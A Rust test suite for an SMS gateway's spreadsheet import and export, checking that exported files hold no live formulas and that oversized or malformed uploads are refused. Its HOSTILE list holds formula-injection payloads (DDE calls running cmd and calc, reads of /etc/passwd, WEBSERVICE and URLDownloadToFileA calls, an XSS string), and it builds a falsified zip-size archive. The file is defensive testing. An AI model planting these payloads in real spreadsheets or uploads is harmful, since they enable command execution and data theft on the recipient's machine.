//! Spreadsheets in and out: what leaves evaluates nothing, what comes in breaks nothing,
//! and what left can come in again.

use std::{
    fmt::Write as _,
    fs,
    io::{Cursor, Read as _, Write as _},
    path::Path,
    process::Command,
};

use axum::{
    body::{Body, to_bytes},
    http::{Request, Response, StatusCode},
};
use baragumu::{
    domain::{
        broadcast::{Audience, Draft},
        language::Language,
        msisdn::Msisdn,
        officer::{Officer, Role},
        schedule::Schedule,
    },
    gateway::{audit::Act, broadcasts::groups::Member, tokens::command_line},
    store::tickets::{self, Kind, NewTicket},
    world::World,
};
use calamine::{Data, Reader, Xlsx};
use rust_xlsxwriter::Workbook;
use serde_json::json;
use zip::{ZipArchive, ZipWriter, write::SimpleFileOptions};

use crate::support::{
    console::Browser,
    databases::{Database, both_databases, on_sqlite},
    gateway::{TestGateway, morning},
};

both_databases! {
    no_export_holds_a_formula,
    an_exported_workbook_is_typed_named_and_frozen,
    what_was_exported_brings_the_same_people_back,
    the_api_takes_the_workbook_that_it_gave,
    a_workbook_is_checked_and_then_imported,
    a_group_is_made_of_a_workbook,
    what_is_made_to_use_the_server_up_is_refused_in_words,
    who_may_not_take_a_group_out_is_told_so,
}

const IMPORT: &str = "/console/subscribers/import";

/// Texts by which spreadsheets were made to reckon, ask servers and start programs.
const HOSTILE: [&str; 66] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u{a0}=1+1",
    "==1+1",
    "=+1+1",
    "+=1+1",
    "-=1+1",
    "@=1+1",
    "'=1+1",
    "''=1+1",
    "\"=1+1\"",
    "\"\"=1+1",
    "=\"a\"&\"b\"",
    "=1+1;2",
    "a,=1+1",
    "a;=1+1",
    "a\t=1+1",
    "a\n=1+1",
    "a\r\n=1+1",
    "a\",\"=1+1",
    "a\"\n=1+1",
    "a\",=1+1,\"",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=DDE(\"soffice\";\"/etc/passwd\";\"A1\")",
    "='file:///etc/passwd'#$passwd.A1",
    "=HYPERLINK(\"http://127.0.0.1:9/?\"&A1,\"bonyeza\")",
    "=HYPERLINK(\"http://127.0.0.1:9/\";\"bonyeza\")",
    "=WEBSERVICE(\"http://127.0.0.1:9/\")",
    "=FILTERXML(WEBSERVICE(\"http://127.0.0.1:9/\"),\"//a\")",
    "=IMPORTXML(\"http://127.0.0.1:9/\",\"//a\")",
    "=IMPORTDATA(\"http://127.0.0.1:9/\")",
    "=IMAGE(\"http://127.0.0.1:9/\")",
    "=RTD(\"a\",,\"b\")",
    "=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://127.0.0.1:9/\")",
    "=EXEC(\"calc.exe\")",
    "=REGISTER.ID(\"kernel32\",\"WinExec\")",
    "=INDIRECT(\"A1\")",
    "=NOW()",
    "=RAND()",
    "=SUM(A1:A9)",
    "=A1",
    "=$A$1",
    "=Sheet1!A1",
    "={1,2}",
    "{=1+1}",
    "=IF(1,2,3)",
    "=CHAR(65)",
    "=TRUE()",
    "=-1",
    "+255754000001",
    "-0754000001",
    "＝1+1",
    "＋1+1",
    "%0A=1+1",
    "=1+1<script>alert(1)</script>",
];

/// The number of the person to whom a text belongs.
fn number(at: usize) -> String {
    format!("+2557540{at:05}")
}

/// A node on which every hostile text is the name of a ward and of a village, and what an
/// operator said; and stands in the trail as who, about what, and with what.
async fn hostile(database: &Database) -> TestGateway {
    let node = TestGateway::start(&database.store, &morning()).await;
    let (mut wards, mut villages, mut people) = (String::new(), String::new(), String::new());
    let now = node.world.now();
    for (at, text) in HOSTILE.iter().enumerate() {
        let (comma, name) = (if at == 0 { "" } else { "," }, text.replace('\'', "''"));
        let (code, msisdn, ms) = (100 + at, number(at), now.as_ms());
        let _ = write!(wards, "{comma}({code}, '{name}', 'V1', 'a')");
        let _ = write!(villages, "{comma}('v{at}', {code}, '{name}', 'a', 'a', 1)");
        let _ = write!(people, "{comma}('{msisdn}', 'sw', {code}, 'v{at}', {ms}, {ms}, {ms})");
    }
    for (table, rows) in [
        ("wards (code, name, mark, source)", wards),
        ("villages (id, ward_code, name, status, source, position)", villages),
        (
            "subscribers (msisdn, language, ward_code, village_id, joined_at, created_at, \
             updated_at)",
            people,
        ),
    ] {
        database.execute(&format!("INSERT INTO {table} VALUES {rows}")).await;
    }
    node.gateway.read_directory().await.unwrap();
    told(database, &node).await;
    node
}

/// A bulletin to all of them, a group, tickets and lines of the trail.
async fn told(database: &Database, node: &TestGateway) {
    let (author, approver) =
        (Officer::new("Asha", Role::Author), Officer::new("Juma", Role::Approver));
    let swahili = Language::parse("sw").unwrap();
    let draft = Draft {
        name: "Mkutano".to_owned(),
        account: "simulator".to_owned(),
        texts: [(swahili.clone(), "Halmashauri ya Mbarali: mkutano kesho.".to_owned())].into(),
        audience: Audience { everybody: true, ..Audience::default() },
        schedule: Schedule::Now,
        ..Draft::default()
    };
    let id = node.gateway.create_broadcast(&author, draft).await.unwrap().id;
    assert_eq!(id, 1);
    let mark = node.gateway.submit_broadcast(&author, id).await.unwrap().fingerprint;
    node.gateway.approve_broadcast(&approver, id, &mark).await.unwrap();
    node.gateway.look_after_broadcasts().await.unwrap();
    database
        .execute(
            "UPDATE outbox SET state = 'undelivered', reason = (SELECT villages.name FROM villages
                 JOIN subscribers ON subscribers.village_id = villages.id
                 WHERE subscribers.msisdn = outbox.msisdn)",
        )
        .await;
    let group = node.gateway.create_group(&author, "=1+1").await.unwrap();
    assert_eq!(group, 1);
    let member = |at| Member {
        msisdn: Msisdn::parse(&number(at)).unwrap(),
        language: Some(swahili.clone()),
        ward_code: i64::try_from(100 + at).ok(),
    };
    let members: Vec<Member> = (0..HOSTILE.len()).map(member).collect();
    node.gateway.put_members(&author, group, &members).await.unwrap();
    for (at, text) in HOSTILE.into_iter().enumerate() {
        let ticket = NewTicket {
            number: tickets::reserve(&node.store).await.unwrap(),
            msisdn: Msisdn::parse(&number(at)).unwrap(),
            account: "simulator".to_owned(),
            channel: "sms".to_owned(),
            kind: Kind::Question,
            category: None,
            body: "Maji?".to_owned(),
            language: swahili.clone(),
            ward_code: i64::try_from(100 + at).ok(),
            created_at: node.world.now(),
            due_at: None,
            turn_key: text.to_owned(),
        };
        let by = Officer::new(text, Role::Author);
        let act = Act { action: "group.put", subject: text, detail: json!(text) };
        let mut tx = node.store.begin().await.unwrap();
        tickets::open(&mut tx, &ticket).await.unwrap();
        node.gateway.record(&mut tx, &by, act).await.unwrap();
        tx.commit().await.unwrap();
    }
}

/// A file that was taken out.
struct Export {
    name: &'static str,
    bytes: Vec<u8>,
}

const WORKBOOK: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

/// Every export there is, in a format.
async fn exports(node: &TestGateway, format: &str) -> Vec<Export> {
    let who = node.gateway.officers(&command_line()).await.unwrap();
    let name = format!("{format} {}", who.len());
    let mut approver = Browser::officer(node, &format!("Juma {name}"), Role::Approver).await;
    let mut auditor = Browser::officer(node, &format!("Mkaguzi {name}"), Role::Auditor).await;
    let mut taken = Vec::new();
    for (name, path) in [
        ("register", "/console/subscribers/export"),
        ("recipients", "/console/bulletins/1/export"),
        ("group", "/console/subscribers/groups/1/export"),
        ("trail", "/console/trail/export"),
        ("week", "/console/help-desk/week/export"),
    ] {
        let page = match name {
            "week" => approver.get(&format!("{path}?format={format}")).await,
            "trail" => auditor.post(path, &[("format", format)]).await,
            _ => approver.post(path, &[("format", format)]).await,
        };
        assert_eq!(page.status, StatusCode::OK, "{name}: {}", page.body);
        let named = &page.headers["content-disposition"];
        assert!(named.starts_with("attachment;"), "{named}");
        assert!(named.ends_with(&format!(".{format}\"")), "{named}");
        let (found, _) = page.headers["content-type"]
            .split_once(';')
            .unwrap_or((&page.headers["content-type"], ""));
        let expected = if format == "csv" { "text/csv" } else { WORKBOOK };
        assert_eq!(found, expected);
        taken.push(Export { name, bytes: page.bytes });
    }
    for (name, path) in [
        ("register of the API", "/subscribers/export"),
        ("recipients of the API", "/broadcasts/1/export"),
    ] {
        let path = format!("{path}?format={format}");
        let response = programs(node, &format!("{format} {name}"), &path, None).await;
        let expected = if format == "csv" { "text/csv; charset=utf-8" } else { WORKBOOK };
        assert_eq!(response.headers()["content-type"], expected, "{name}");
        let bytes = to_bytes(response.into_body(), usize::MAX).await.unwrap().to_vec();
        taken.push(Export { name, bytes });
    }
    taken
}

/// What an officer's program gets for a POST, with a workbook or with nothing.
async fn programs(
    node: &TestGateway,
    key: &str,
    path: &str,
    workbook: Option<&[u8]>,
) -> Response<Body> {
    let made = node.gateway.create_token(&command_line(), "Juma", Role::Approver).await.unwrap();
    let mut request = Request::post(format!("/api/v1{path}"))
        .header("authorization", format!("Bearer {}", made.token))
        .header("idempotency-key", key.replace(' ', "-"))
        .header("accept-language", "sw");
    if workbook.is_some() {
        request = request.header("content-type", WORKBOOK);
    }
    let body = Body::from(workbook.unwrap_or_default().to_vec());
    let response = node.takes(request.body(body).unwrap()).await;
    assert_eq!(response.status(), StatusCode::OK, "{path}");
    response
}

/// The cells of a text with commas, as a program reads them that knows nothing of us.
fn cells_of_csv(bytes: &[u8]) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(bytes);
    let rows = reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect());
    rows.collect()
}

/// The cells of a workbook's sheet, whose formulas are none.
fn cells_of_xlsx(bytes: &[u8]) -> Vec<Vec<Data>> {
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes)).unwrap();
    let names = book.sheet_names();
    assert_eq!(names.len(), 1);
    let formulas = book.worksheet_formula(&names[0]).unwrap();
    assert!(formulas.used_cells().next().is_none(), "there is a formula");
    let range = book.worksheet_range(&names[0]).unwrap();
    range.rows().map(<[Data]>::to_vec).collect()
}

/// What stands before a text that would begin a formula.
fn escaped(text: &str) -> String {
    let begins = text.trim_start_matches('\'');
    let is_formula =
        begins.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']);
    if is_formula { format!("'{text}") } else { text.to_owned() }
}

async fn no_export_holds_a_formula(database: Database) {
    let node = hostile(&database).await;
    for export in exports(&node, "csv").await {
        let name = export.name;
        let rows = cells_of_csv(&export.bytes);
        let width = rows[0].len();
        assert!(rows.iter().all(|row| row.len() == width), "{name} breaks in the middle");
        for cell in rows.iter().flatten() {
            let begins = cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋']);
            assert!(!begins, "{name}: {cell:?}");
        }
        for text in HOSTILE {
            let text = escaped(text);
            let is_there = rows.iter().flatten().any(|cell| *cell == text);
            assert!(is_there, "{name} lost {text:?}");
        }
    }
    for export in exports(&node, "xlsx").await {
        let rows = cells_of_xlsx(&export.bytes);
        for text in HOSTILE {
            let is_text = |cell: &Data| matches!(cell, Data::String(found) if found == text);
            assert!(rows.iter().flatten().any(is_text), "{} lost {text:?}", export.name);
        }
    }
}

async fn an_exported_workbook_is_typed_named_and_frozen(database: Database) {
    let node = hostile(&database).await;
    let exports = exports(&node, "xlsx").await;
    let of = |name: &str| exports.iter().find(|it| it.name == name).unwrap();
    for (name, sheet) in [
        ("register", "Waliojiunga"),
        ("recipients", "Tangazo 1"),
        ("group", "Kundi 1"),
        ("week", "Jumla za wiki"),
        ("register of the API", "Waliojiunga"),
        ("recipients of the API", "Tangazo 1"),
    ] {
        let export = of(name);
        let book: Xlsx<_> = Xlsx::new(Cursor::new(&export.bytes)).unwrap();
        assert_eq!(book.sheet_names(), [sheet]);
        let mut archive = ZipArchive::new(Cursor::new(&export.bytes)).unwrap();
        let mut xml = String::new();
        archive.by_name("xl/worksheets/sheet1.xml").unwrap().read_to_string(&mut xml).unwrap();
        assert!(xml.contains("ySplit=\"1\"") && xml.contains("state=\"frozen\""), "{name}");
        assert!(xml.contains("customWidth=\"1\""), "{name}");
    }
    let rows = cells_of_xlsx(&of("register").bytes);
    assert_eq!(rows[0][0], Data::String("msisdn".to_owned()));
    assert_eq!(rows[1][0], Data::String("255754000000".to_owned()), "a number is a name");
    // Morning in Rujewa: the clock on the wall, not the one in Greenwich.
    let Data::DateTime(at) = &rows[1][6] else { panic!("{:?}", rows[1]) };
    assert_eq!(at.to_ymd_hms_milli(), (2026, 11, 23, 8, 0, 0, 0));
    assert_eq!(rows[1][7], Data::Empty);
    for name in ["register", "recipients"] {
        let of_the_api = cells_of_xlsx(&of(&format!("{name} of the API")).bytes);
        assert_eq!(of_the_api, cells_of_xlsx(&of(name).bytes), "{name}");
    }
    let rows = cells_of_xlsx(&of("recipients").bytes);
    assert_eq!(rows[1][5], Data::Float(0.0), "attempts can be summed: {:?}", rows[1]);
    let rows = cells_of_xlsx(&of("week").bytes);
    assert_eq!(rows[1][2], Data::Float(1.0), "{:?}", rows[1]);
}

/// What is known of everybody: number, language, ward.
async fn everybody(database: &Database) -> Vec<String> {
    let sql = "SELECT msisdn || ' ' || language || ' ' || ward_code FROM subscribers
               WHERE joined_at IS NOT NULL AND left_at IS NULL ORDER BY msisdn";
    database.texts(sql).await
}

async fn what_was_exported_brings_the_same_people_back(database: Database) {
    let node = hostile(&database).await;
    let before = everybody(&database).await;
    assert_eq!(before.len(), HOSTILE.len());
    let mut author = Browser::officer(&node, "Neema", Role::Author).await;
    for format in ["csv", "xlsx"] {
        let exports = exports(&node, format).await;
        database.execute("DELETE FROM subscribers").await;
        author.get(IMPORT).await;
        let fields = [("evidence", "nakala"), ("act", "import")];
        let page = author.uploads(IMPORT, &fields, &exports[0].bytes).await;
        let told = format!("Walioongezwa: {}", HOSTILE.len());
        assert!(page.body.contains(&told), "{format}: {}", page.body);
        assert_eq!(everybody(&database).await, before, "{format}");

        let groups = "/console/subscribers/groups";
        author.get(groups).await;
        let fields = [("name", format), ("act", "make")];
        let page = author.uploads(&format!("{groups}/upload"), &fields, &exports[2].bytes).await;
        assert_eq!(page.status, StatusCode::SEE_OTHER, "{}", page.body);
        let members = format!(
            "contact_group_members AS a JOIN contact_group_members AS b ON a.msisdn = b.msisdn
             AND a.ward_code = b.ward_code AND a.language = b.language
             WHERE a.group_id = 1 AND b.group_id =
                 (SELECT id FROM contact_groups WHERE name = '{format}')"
        );
        assert_eq!(database.count(&members).await, i64::try_from(HOSTILE.len()).unwrap());
    }
}

async fn the_api_takes_the_workbook_that_it_gave(database: Database) {
    let node = hostile(&database).await;
    let before = everybody(&database).await;
    let export = programs(&node, "register-out", "/subscribers/export?format=xlsx", None).await;
    let workbook = to_bytes(export.into_body(), usize::MAX).await.unwrap();
    database.execute("DELETE FROM subscribers").await;
    let path = "/subscribers/import?dry_run=false&evidence=nakala";
    let report = programs(&node, "register-in", path, Some(&workbook)).await;
    let report = to_bytes(report.into_body(), usize::MAX).await.unwrap();
    let report: serde_json::Value = serde_json::from_slice(&report).unwrap();
    assert_eq!((&report["added"], &report["faulty"]), (&json!(HOSTILE.len()), &json!(0)));
    assert_eq!(everybody(&database).await, before);
}

/// A workbook as an officer fills one in.
fn filled_in() -> Vec<u8> {
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    for (at, heading) in (0..).zip(["Namba ya simu", "Lugha", "Kata"]) {
        sheet.write_string(0, at, heading).unwrap();
    }
    sheet.write_number(1, 0, 255_750_000_010_f64).unwrap();
    sheet.write_string(1, 2, "Chimala").unwrap();
    sheet.write_number(3, 0, 7.5e8).unwrap();
    sheet.write_string(3, 1, "en").unwrap();
    sheet.write_number(3, 2, 2).unwrap();
    sheet.write_string(6, 0, "siyo namba").unwrap();
    book.save_to_buffer().unwrap()
}

async fn a_workbook_is_checked_and_then_imported(database: Database) {
    let node = TestGateway::start(&database.store, &morning()).await;
    let mut author = Browser::officer(&node, "Asha", Role::Author).await;
    author.get(IMPORT).await;
    let page = author.uploads(IMPORT, &[("act", "check")], filled_in()).await;
    assert_eq!(page.status, StatusCode::OK, "{}", page.body);
    let line = page.between("<tbody>", "</tbody>").unwrap();
    assert!(line.contains("data-name=\"Mstari\">7</td>"), "the row of the sheet: {line}");
    assert_eq!(database.count("subscribers").await, 0, "nothing is kept by checking");
    author.get(IMPORT).await;
    let fields = [("evidence", "orodha"), ("act", "import")];
    let page = author.uploads(IMPORT, &fields, filled_in()).await;
    assert!(page.body.contains("Walioongezwa: 2"), "{}", page.body);
    let numbers = database.texts("SELECT msisdn FROM subscribers ORDER BY msisdn").await;
    assert_eq!(numbers, ["+255750000000", "+255750000010"]);
    assert_eq!(database.count("subscribers WHERE ward_code IN (1, 2)").await, 2);
}

async fn a_group_is_made_of_a_workbook(database: Database) {
    let node = TestGateway::start(&database.store, &morning()).await;
    let mut author = Browser::officer(&node, "Asha", Role::Author).await;
    author.get("/console/subscribers/groups").await;
    let path = "/console/subscribers/groups/upload";
    let page = author.uploads(path, &[("name", "Wakulima"), ("act", "make")], filled_in()).await;
    assert_eq!(page.status, StatusCode::SEE_OTHER, "{}", page.body);
    assert_eq!(database.count("contact_group_members").await, 2);
}

/// An archive of a part whose directory says that it holds 2 GiB.
fn large_inside() -> Vec<u8> {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    writer.start_file("xl/worksheets/sheet1.xml", SimpleFileOptions::default()).unwrap();
    let content = [b' '; 4_321];
    writer.write_all(&content).unwrap();
    let mut file = writer.finish().unwrap().into_inner();
    let size = 4_321_u32.to_le_bytes();
    for at in 0..file.len() - 4 {
        if file[at..at + 4] == size {
            file[at..at + 4].copy_from_slice(&0x7fff_ffff_u32.to_le_bytes());
        }
    }
    file
}

async fn what_is_made_to_use_the_server_up_is_refused_in_words(database: Database) {
    let node = TestGateway::start(&database.store, &morning()).await;
    let mut author = Browser::officer(&node, "Asha", Role::Author).await;
    let mut far = Workbook::new();
    far.add_worksheet().write_string(1_048_575, 16_383, "a").unwrap();
    let mut wide = Workbook::new();
    wide.add_worksheet().write_string(0, 16_383, "a").unwrap();
    let mut torn = filled_in();
    torn.truncate(torn.len() / 2);
    let bombs: [(Vec<u8>, &str, &str); 10] = [
        (large_inside(), "Jedwali ni kubwa mno likifunguliwa.", "too large once it is unpacked."),
        (far.save_to_buffer().unwrap(), "Mistari ni mingi mno.", "There are too many rows."),
        (wide.save_to_buffer().unwrap(), "safu nyingi mno.", "has too many columns."),
        (torn, "Jedwali hili haliwezi kusomwa.", "This workbook cannot be read."),
        (
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".to_vec(),
            "Jedwali ni la aina ya zamani",
            "The workbook is of the old kind",
        ),
        (b"7".repeat(5_000_000), "Mstari au kisanduku kimoja", "A line or a cell is too long."),
        (b"7,".repeat(5_000_000), "safu nyingi mno.", "has too many columns."),
        (b"\r\n".repeat(1_000_000), "Mistari ni mingi mno.", "There are too many rows."),
        (b",,,\n".repeat(1_000_000), "Mistari ni mingi mno.", "There are too many rows."),
        (
            b"namba\n\xfe\xff".to_vec(),
            "si jedwali la Excel wala maandishi",
            "neither a workbook nor plain text.",
        ),
    ];
    for (at, language) in ["sw", "en"].into_iter().enumerate() {
        author.get("/console").await;
        author.post("/console/language", &[("language", language), ("back", "/console")]).await;
        for (file, swahili, english) in &bombs {
            author.get(IMPORT).await;
            let fields = [("evidence", "orodha"), ("act", "import")];
            let page = author.uploads(IMPORT, &fields, file).await;
            let told = [swahili, english][at];
            assert_eq!(page.status, StatusCode::UNPROCESSABLE_ENTITY, "{told}");
            assert!(page.body.contains(told), "{told}: {}", page.body);
            assert!(page.body.contains("value=\"orodha\""), "what was typed stays: {told}");
        }
        author.get(IMPORT).await;
        let names: Vec<String> = (0..5_000).map(|number| format!("f{number}")).collect();
        let fields: Vec<(&str, &str)> = names.iter().map(|name| (name.as_str(), "a")).collect();
        let page = author.uploads(IMPORT, &fields, "namba\n0754000001\n").await;
        let told = ["Fomu ina sehemu nyingi mno.", "The form has too many fields."][at];
        assert_eq!(page.status, StatusCode::UNPROCESSABLE_ENTITY, "{told}");
        assert!(page.body.contains(told), "{told}: {}", page.body);
    }
    for table in ["subscribers", "consents", "audit WHERE action LIKE 'subscriber.%'"] {
        assert_eq!(database.count(table).await, 0, "{table}");
    }
}

async fn who_may_not_take_a_group_out_is_told_so(database: Database) {
    let node = hostile(&database).await;
    let path = "/console/subscribers/groups/1";
    for role in Role::ALL {
        let mut officer = Browser::officer(&node, role.word(), role).await;
        let page = officer.get(path).await;
        let may = role.may(Role::Approver);
        assert_eq!(page.body.contains("/groups/1/export"), may, "{role:?}");
        let page = officer.post(&format!("{path}/export"), &[("format", "csv")]).await;
        assert_eq!(page.status == StatusCode::OK, may, "{role:?}");
        assert_eq!(page.status == StatusCode::FORBIDDEN, !may, "{role:?}");
    }
    let taken = "audit WHERE action = 'group.export'";
    let may = Role::ALL.into_iter().filter(|role| role.may(Role::Approver)).count();
    assert_eq!(database.count(taken).await, i64::try_from(may).unwrap());
}

/// Converts a file as an office would open it; what became of it.
fn opened(folder: &Path, file: &str, filter: &[&str], to: &str) -> Vec<u8> {
    let home = format!("-env:UserInstallation=file://{}/home", folder.display());
    let into = folder.join(to);
    let done = Command::new("soffice")
        .args([&home, "--headless"])
        .args(filter)
        .args(["--convert-to", to, "--outdir"])
        .args([&into, &folder.join(file)])
        .output()
        .expect("LibreOffice is installed: tests/spreadsheets does it");
    let (stem, _) = file.rsplit_once('.').unwrap();
    let end = to.split(':').next().unwrap();
    fs::read(into.join(format!("{stem}.{end}")))
        .unwrap_or_else(|_| panic!("{file}: {}", String::from_utf8_lossy(&done.stderr)))
}

/// Text with commas, by a reader that is told to evaluate what looks like a formula
/// (token 13), as a careless office would set it.
const EVALUATING: [&str; 1] = ["--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,0,true"];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "needs LibreOffice, which takes half a gigabyte: tests/spreadsheets runs it"]
async fn an_office_program_evaluates_nothing() {
    on_sqlite(async |database: Database| {
        let node = hostile(&database).await;
        let folder = tempfile::tempdir().unwrap();
        let at = folder.path();
        // What it would do, if it could.
        fs::write(at.join("control.csv"), "a\n=1+1\n").unwrap();
        let control = String::from_utf8(opened(at, "control.csv", &EVALUATING, "fods")).unwrap();
        assert!(control.contains("table:formula="), "the control is evaluated: {control}");
        let mut seen = 0;
        for format in ["csv", "xlsx"] {
            let filter: &[&str] = if format == "csv" { &EVALUATING } else { &[] };
            for export in exports(&node, format).await {
                let file = format!("{}.{format}", export.name);
                fs::write(at.join(&file), &export.bytes).unwrap();
                let flat = String::from_utf8(opened(at, &file, filter, "fods")).unwrap();
                assert!(!flat.contains("table:formula="), "{file} is evaluated");
                assert!(!flat.contains("Err:5") && !flat.contains("#NAME?"), "{file}");
                let again = opened(at, &file, filter, "csv:Text - txt - csv (StarCalc):44,34,76");
                let cells = cells_of_csv(&again);
                for text in HOSTILE {
                    let text = if format == "csv" { escaped(text) } else { text.to_owned() };
                    let same = |text: &str| text.replace("\r\n", "\n").replace('\r', "\n");
                    let is_there = cells.iter().flatten().any(|it| same(it) == same(&text));
                    assert!(is_there, "{file} lost {text:?}");
                    seen += 1;
                }
            }
        }
        println!("{seen} texts in 10 files were opened, and none was evaluated");
    })
    .await;
}
